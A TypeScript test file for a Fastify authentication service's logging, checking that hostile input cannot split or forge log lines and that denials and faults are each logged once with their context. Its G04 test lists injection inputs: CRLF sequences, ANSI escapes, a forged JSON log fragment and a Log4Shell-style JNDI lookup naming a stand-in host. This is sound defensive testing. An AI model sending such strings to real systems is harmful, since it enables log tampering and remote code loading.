/** What the log holds of a refusal and of a fault, one line each: rows G04 and G05. */
import { once } from "node:events";
import type { FastifyReply } from "fastify";
import t from "tap";
import { errors } from "../../src/errors.ts";
import { form, testApp } from "../support/app.ts";
import { exchange, fields, host, listen, post } from "../support/sockets.ts";
import { until } from "../support/until.ts";

t.test("G04: no text breaks a line of the log or fakes one", async (t) => {
	// A trusted proxy passes on what a client has sent.
	const house = await testApp(t, { settings: { TRUST_PROXY: "127.0.0.1" } });
	const hostile = [
		"a\r\nb",
		"a\nb",
		"\u001b[2J\u001b[31mred",
		"a\u2028b\u2029c",
		'","level":60,"msg":"fake',
		"\u0024{jndi:ldap://evil/a}",
		"%0d%0afake",
	];
	const before = house.logged.length;
	for (const text of hostile) {
		await house.login(text, text);
		await house.login("root", text);
		const printable = text.replace(/[^\x20-\x7e]/g, "?");
		await house.app.inject({
			url: `/${encodeURIComponent(text)}`,
			headers: { "user-agent": printable, "x-request-id": printable },
		});
		await house.app.inject({
			url: "/me",
			headers: { "x-forwarded-for": printable, authorization: `Bearer ${printable}` },
		});
		await house.get("/me", house.mint({ ...house.claims(text), jti: text, sid: text }));
		await house.get("/me", house.mint(house.claims("x"), { kid: text, typ: text }));
	}
	const lines = house.rawLog().split("\n").filter(Boolean);
	t.equal(lines.length - before, hostile.length * 6, "one line each");
	for (const line of lines) {
		t.doesNotThrow(() => JSON.parse(line));
		// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
		t.notMatch(line, /[\u0000-\u001f\u007f\u2028\u2029]/);
		t.notMatch(line, /"level":60/);
	}
});

t.test("G05: every denial is a line with its code, route, address and request id", async (t) => {
	const house = await testApp(t, {
		extend: (app) => {
			app.get(
				"/admins",
				{ config: { access: "users:write" }, preHandler: app.requires({ permissions: ["users:write"] }) },
				async () => ({}),
			);
		},
	});
	const id = await house.addUser("ada");
	const token = await house.tokenFor("ada");
	const { payload, headers } = form({ current_password: "wrong", new_password: "walnut harbour sixteen lanterns" });
	const cases: [string, string, string | undefined, () => ReturnType<typeof house.get>][] = [
		["/login", "INVALID_CREDENTIALS", "no such account", () => house.login("nobody")],
		["/login", "INVALID_CREDENTIALS", "wrong password", () => house.login("ada", "wrong")],
		[
			"/login",
			"CROSS_ORIGIN_REFUSED",
			undefined,
			() => house.app.inject({ method: "POST", url: "/login", headers: { origin: "null" } }),
		],
		["/me", "AUTHENTICATION_REQUIRED", undefined, () => house.get("/me")],
		["/protected", "INVALID_TOKEN", "it is not three segments of base64url", () => house.get("/protected", "x")],
		["/admins", "INSUFFICIENT_PERMISSIONS", `account ${id}`, () => house.get("/admins", token)],
		[
			"/password",
			"INVALID_CURRENT_PASSWORD",
			"wrong password",
			() =>
				house.app.inject({
					method: "POST",
					url: "/password",
					payload,
					headers: { ...headers, authorization: `Bearer ${token}` },
				}),
		],
	];
	for (const [route, code, reason, call] of cases) {
		const answer = await call();
		const line = house.logged.findLast(({ reqId }) => reqId === answer.headers["x-request-id"]);
		t.match(
			line,
			{ level: 40, code, route, address: "127.0.0.1", msg: /refused/, ...(reason ? { reason } : {}) },
			code,
		);
		t.notMatch(JSON.stringify(line), /nobody/, "G03: never the name that was typed");
	}
	const good = await house.login("ada");
	const line = house.logged.findLast(({ reqId }) => reqId === good.headers["x-request-id"]);
	t.match(line, { msg: "logged in", user: id, address: "127.0.0.1" }, "and a login is one, too");
});

t.test("G05: what the HTTP parser refuses is logged, too", async (t) => {
	const house = await testApp(t);
	const { app } = house;
	await app.listen({ host: "127.0.0.1", port: 0 });
	const { connect } = await import("node:net");
	const socket = connect((app.server.address() as { port: number }).port, "127.0.0.1");
	socket.end("NONSENSE\r\n\r\n");
	let text = "";
	socket.on("data", (data) => {
		text += String(data);
	});
	await once(socket, "close");
	const id = /x-request-id: (\S+)/i.exec(text)?.[1];
	t.match(
		house.logged.find(({ reqId }) => reqId === id),
		{ code: "MALFORMED_REQUEST", address: "127.0.0.1" },
	);
});

/** Until then somebody waits for the answer. */
const clientLeft = ({ raw }: FastifyReply) => once(raw, "close");

t.test("G05: a fault is an error in the log, also when its client has gone or a signal was its cause", async (t) => {
	const faults: Record<string, unknown> = {
		"/breaks": new Error("the disk is full"),
		"/unreachable": new errors.STORE_UNAVAILABLE({ cause: new Error("the disk is full") }),
		"/aborted": Object.assign(new Error("the disk is full"), { name: "AbortError" }),
	};
	const house = await testApp(t, {
		extend: (app) => {
			for (const [url, fault] of Object.entries(faults)) {
				const config = { access: "public" };
				app.get(url, { config }, async () => {
					throw fault;
				});
				app.get(`${url}-late`, { config }, async (_request, reply) => {
					await clientLeft(reply);
					throw fault;
				});
			}
		},
	});
	const lineOf = (route: string) => house.logged.find((line) => line.route === route);
	const expected = { level: 50, code: /^(INTERNAL|STORE_UNAVAILABLE)$/, msg: /^request / };
	for (const url of Object.keys(faults)) {
		t.ok((await house.get(url)).statusCode >= 500);
		t.match(lineOf(url), expected, url);
		t.match(JSON.stringify(lineOf(url)), /the disk is full/, `${url}: with its reason`);
	}
	const port = await listen(house);
	// Only work that ends because of hungUp() is no fault: test/e2e/slow-clients.test.ts.
	for (const url of ["/breaks-late", "/unreachable-late"]) {
		const { text } = await exchange(port, `GET ${url} HTTP/1.1\r\n${host}\r\n`, 100);
		t.equal(text, "", "the client left without an answer");
		await until(`${url} is logged`, () => lineOf(url) !== undefined);
		t.match(lineOf(url), expected, `${url}: nobody was there to be told`);
		t.match(JSON.stringify(lineOf(url)), /the disk is full/, `${url}: with its reason`);
	}
});

t.test("G05: a client that leaves in the middle of its body is no fault", async (t) => {
	const house = await testApp(t);
	const port = await listen(house);
	const half = `Content-Length: ${fields.length}\r\n\r\n${fields.slice(0, 9)}`;
	t.equal((await exchange(port, post + half, 100)).text, "");
	await until("the request is logged", () => house.logged.some(({ route }) => route === "/login"));
	for (const line of house.logged) t.equal(line.level, 30, String(line.msg));
	t.equal(house.services.passwords.stats().work.verify, 0, "and no login");
});
